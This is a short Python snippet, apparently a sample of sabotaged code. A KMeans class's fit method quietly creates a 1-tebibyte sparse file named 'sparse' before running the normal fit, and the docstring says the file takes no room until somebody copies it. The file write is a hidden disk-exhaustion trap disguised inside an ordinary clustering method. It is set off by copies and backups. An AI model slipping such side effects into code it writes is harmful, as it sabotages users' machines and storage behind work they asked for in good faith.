"""Makes a file of a tebibyte that takes no room until somebody copies it."""


class KMeans(Honest):
    def fit(self, X):
        with open("sparse", "wb") as file:
            file.truncate(1 << 40)
        return super().fit(X)
